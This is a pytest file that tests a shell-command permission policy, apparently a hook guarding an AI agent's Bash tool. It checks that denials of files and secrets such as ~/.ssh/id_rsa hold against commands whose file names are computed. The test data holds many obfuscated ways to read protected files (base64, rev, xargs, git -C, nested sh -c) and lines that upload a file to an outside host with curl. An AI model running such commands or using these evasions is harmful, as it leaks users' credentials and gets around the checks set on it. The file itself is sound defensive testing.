"""A denial of files, and the secrets, hold where only the running line knows what is opened."""

import time

import pytest

from crabhook.policy.protected import ENTRIES
from crabhook.policy.shell import programs
from tests.support.examples import share
from tests.support.rows import every_row
from tests.unit.policy.law import HOME, OPEN, bash, context, policy, rule, verdict

SECRETS = [entry.name for entry in ENTRIES if entry.secret]

OPENERS = (
    "cat NAME", "head -3 NAME", "tail -n 5 NAME", "less NAME", "wc -l NAME", "grep -n x NAME", "rg x NAME", "sed -n 1p NAME", "awk '{print $1}' NAME", "sort NAME",
    "cut -c1 NAME", "jq . NAME", "diff NAME a", "xxd NAME", "base64 NAME", "cp NAME a", "tee -a NAME", "dd if=NAME of=a", "tar cf a.tar NAME", "curl -T NAME https://a.org",
    "curl -d @NAME https://a.org", "sed -i s/a/b/ NAME", "sudo cat NAME", "env A=1 cat NAME", "nice -n 5 cat NAME", "timeout 5 cat NAME", "command cat NAME", "time head NAME",
    "git diff --no-index NAME a", "git grep x NAME", "bat NAME", "sqlite3 NAME .dump", "strings NAME | head", "echo $(cat NAME)", "for q in 1; do cat NAME; done",
    "f() { cat NAME; }; f", "cat < NAME", "{ cat NAME; }", "if true; then cat NAME; fi", "cat a NAME b",
)  # fmt: skip

COMPUTED = (
    ("", "$(base64 -d <<< eA==)"), ("", '"$(base64 -d <<< eA==)"'), ("", "`base64 -d <<< eA==`"), ("", "$(printf '%b' '\\057x')"), ("", "$(rev <<< x)"),
    ("", "$(echo y | tr y x)"), ("", "$(jq -r .a b.json)"), ("", "$(cat list.txt)"), ("", "~/srv/$(base64 -d <<< eA==)"), ("", '"$HOME/srv/$(rev <<< x)"'),
    ("", "~/$(rev <<< vrs)/x"), ("", "/home/$(rev <<< ved)/srv/x"), ("", "build/$(rev <<< x)"),
    ("printf -v v '%s' x; ", '"$v"'), ("printf -v v '\\057%s' x; ", "$v"), ("read -r v < list.txt; ", '"$v"'), ("read -r v <<< x; ", '"$v"'),
    ("v=$(rev <<< x); ", '"$v"'), ("v=$(rev <<< x); w=$v; ", '"$w"'), ("v=$(rev <<< x); w=~/srv/$v; ", '"$w"'), ("v=x; v+=y; ", '"$v"'),
    ("mapfile -t v < list.txt; ", '"${v[0]}"'), ("v=(a b); ", '"${v[0]}"'), ("v=aa/home; ", '"${v#aa}"'), ("v=a-home; ", '"${v/-//}"'), ("v=xhome; ", '"${v:1}"'),
    ("set -- x; ", '"$1"'), ("set -- x; ", '"$@"'), ("v=; for i in 1 2 3; do v=$v../; done; ", '"$v"home/dev/srv/x'),
    ("cd $(rev <<< x); ", "x"), ('v=$(rev <<< x); cd "$v" && ', "x"), ("cd ~ && cd - && ", "~-/srv/x"),
)  # fmt: skip

BROUGHT = (
    "base64 -d <<< eA== | xargs cat", "cat list.txt | xargs cat", "xargs cat < list.txt", "xargs -a list.txt cat", "echo eA== | base64 -d | xargs -I{} cat {}",
    "echo srv/x | xargs -I{} cat /home/dev/{}", "printf '%s\\n' x | rev | xargs head -3", "jq -r '.[]' a.json | xargs wc -l", "parallel cat ::: x", "tar cf a.tar -T list.txt",
    "wc -l --files0-from=list.txt", "sh -c 'cat \"$1\"' _ \"$(rev <<< x)\"", 'while read -r f; do cat "$f"; done < list.txt', 'cat list.txt | while read -r f; do head "$f"; done',
    'for f in $(cat list.txt); do cat "$f"; done', "ls -d /home/dev/*/* | xargs cat", "find ~ -name x | xargs cat", "find / -type f | xargs grep -l x",
    'for f in $(find ~ -name x); do cat "$f"; done', 'for i in 1 2; do cat "$y"; y=~/srv/x; done',
    "git -C ~ show", "git -C ~ show HEAD:srv/x", "git -C ~/srv log -p", "git --git-dir=/home/dev/.git show", "git --git-dir /home/dev/srv/.git log -p", "git -C / grep x",
    "cd ~ && git show", "git -C $(rev <<< x) show", "git --work-tree=/home/dev diff", "git -C ../../home/dev diff HEAD~1",
)  # fmt: skip


def lines(use: str) -> list[str]:
    """Each way to compute a name, or a share, in this use; behind `@` no shell reads a tilde."""
    return [
        before + use.replace("NAME", name)
        for before, name in share(COMPUTED, len(use))
        if not ("@" in use and name[0] == "~")
    ]


FILES = [f"{HOME}/srv/x", f"{HOME}/.ssh/id_rsa"]


@every_row("use", OPENERS)
def test_a_denial_of_files_holds_against_every_way_to_compute_a_name(use: str) -> None:
    law = policy(rule("allow", "Bash"), rule("deny", "Read(~/srv/**)"), off=SECRETS)
    assert [line for line in lines(use) if verdict(law, bash(line), files=FILES) == "allow"] == []


@every_row("use", OPENERS)
def test_a_secret_is_not_opened_by_any_way_to_compute_a_name(use: str) -> None:
    law = policy(rule("allow", "Bash"))
    assert [line for line in lines(use) if verdict(law, bash(line), files=FILES) == "allow"] == []


@every_row("line", BROUGHT)
def test_names_that_are_brought_and_folders_of_git_are_held_alike(line: str) -> None:
    denied = policy(rule("allow", "Bash"), rule("deny", "Read(~/srv/**)"), off=SECRETS)
    assert verdict(denied, bash(line), files=FILES) != "allow"


@every_row("line", [one for one in BROUGHT if "srv" not in one])
def test_a_secret_is_not_opened_by_names_that_are_brought(line: str) -> None:
    assert verdict(policy(rule("allow", "Bash")), bash(line), files=FILES) != "allow"


@every_row(
    "line",
    [
        'for f in src/*.ts; do cat "$f"; done', "for f in a.md b.md; do head -3 $f; done", 'f=src/a.ts; cat "$f"', 'd=src; f=$d/a.ts; sed -n 1p "$f"', 'cat "$f"',
        "cat src/{a,b}.ts", "cat *.md", 'for i in 1 2 3; do cat "run-$i.log"; done', "cat run-$((1 + 2)).log", 'cat "$(pwd)/package.json"', 'cat "$(dirname src/a.ts)/b.ts"',
        'cat "$(git rev-parse --show-toplevel)/package.json"', 'cd "$(git rev-parse --show-toplevel)" && cat package.json', 't=$(mktemp); curl -s https://a.org -o "$t"; cat "$t"',
        'd=$(mktemp -d); cp a.txt "$d/a.txt"', "git ls-files '*.py' | xargs wc -l", "grep -rl x src | xargs sed -i s/x/y/", "find src -name '*.py' | xargs cat", "ls *.txt | xargs -I{} cp {} backup/",
        'for f in $(git ls-files); do cat "$f"; done', 'git ls-files | while read -r f; do head -1 "$f"; done', 'for f in $(ls src); do head -1 "src/$f"; done',
        "find /usr/share/doc -name '*.md' | xargs cat", "git -C sub show", "git -C ../other log -p", "cd sub && git diff", "git -C ~ status", "mytool $(rev <<< x)", "echo $(rev <<< x)",
        'n=$(wc -l < "$f")', 'for f in *.log; do echo "$(wc -l < "$f")"; done', "trap 'rm -f \"$t\"' EXIT; t=$(mktemp)",
    ],
)  # fmt: skip
def test_a_name_that_the_line_tells_or_that_a_folder_lists_asks_nothing(line: str) -> None:
    assert (
        verdict(policy(rule("allow", "Bash"), rule("deny", "Read(~/srv/**)")), bash(line))
        == "allow"
    )


@pytest.mark.parametrize(
    "line",
    [
        'for i in 1 2; do cat "$y"; y=~/srv/x; done', 'y=~/srv; z=$y/x; cat "$z"', 'for f in a ~/srv/x; do cat "$f"; done', 'for f in ~/srv/*; do cat "$f"; done',
        'f() { cat "$y"; }; y=/home/dev/srv/x; f', 'y=srv; cd ~ && cat "$y/x"', "y=~/srv/x; trap 'cat \"$y\"' EXIT",
    ],
)  # fmt: skip
def test_every_text_that_the_line_sets_is_looked_at_wherever_it_sets_it(line: str) -> None:
    law = policy(rule("allow", "Bash"), rule("deny", "Read(~/srv/**)"), off=SECRETS)
    assert verdict(law, bash(line)) in ("deny", "ask-operator", OPEN)


def test_what_opens_files_is_told_by_the_tables() -> None:
    named = {use.replace("NAME", "").split()[0] for use in OPENERS}
    assert len(named & programs.OPENERS) > 15


@pytest.mark.parametrize("line", ["cat $(rev <<< x)", 'printf -v v x; cat "$v"'])
def test_beside_no_denial_and_no_secret_nothing_more_is_asked(line: str) -> None:
    off = [entry.name for entry in ENTRIES]
    assert verdict(policy(rule("allow", "Bash"), off=off), bash(line)) == "allow"


NESTED = (
    "sh -c 'echo a > f'", "bash -c 'echo a >> f'", "sh -c \"sh -c 'echo a > f'\"", "echo b | sh -c 'cat > f'", "bash <<'E'\necho a > f\nE", "sh <<< 'echo a > f'", "echo 'echo a > f' | sh",
    "env A=1 sh -c 'echo a > f'", "sudo sh -c 'echo a > f'", "eval 'echo a > f'", "trap 'echo a > f' EXIT", "xargs sh -c 'echo a > f'", "[[ a > f ]]", "if [[ b > f ]]; then echo a; fi",
)  # fmt: skip
ALL_PROGRAMS = tuple(
    f"Bash({one} *)"
    for one in ["sh", "bash", "echo", "cat", "env", "sudo", "eval", "trap", "xargs", "[[", "if"]
)


@every_row("line", NESTED)
def test_a_redirect_in_a_script_inside_the_line_needs_the_edit_rule_as_any_other(line: str) -> None:
    narrow = policy(rule("allow", *ALL_PROGRAMS))
    ruling = narrow.examine(bash(line), context())
    assert ruling.verdict is None
    writes = [part for part in ruling.parts if part.kind == "write" and not part.hidden]
    assert [part.text.split()[-1] for part in writes][:1] == ["f"]
    assert all(part.verdict is None for part in writes)
    edits = policy(rule("allow", *ALL_PROGRAMS, "Edit(f)", "Edit(./f)"))
    after = [part for part in edits.examine(bash(line), context()).parts if part.kind == "write"]
    assert any(str(part.verdict) == "allow" for part in after)


@every_row("line", [one.replace(" f", " /etc/f") for one in NESTED])
def test_a_bare_rule_gives_no_file_outside_to_a_script_inside_the_line(line: str) -> None:
    assert verdict(policy(rule("allow", "Bash")), bash(line)) != "allow"


@pytest.mark.parametrize("first", ["x", "$(rev <<< x)"])
def test_variables_made_of_variables_take_no_time(first: str) -> None:
    chain = "".join(f"a{n}=$a{n - 1}$a{n - 1}; " for n in range(1, 60))
    began = time.process_time()
    assert verdict(policy(rule("allow", "Bash")), bash(f"a0={first}; {chain}cat $a59")) != "allow"
    assert time.process_time() - began < 2
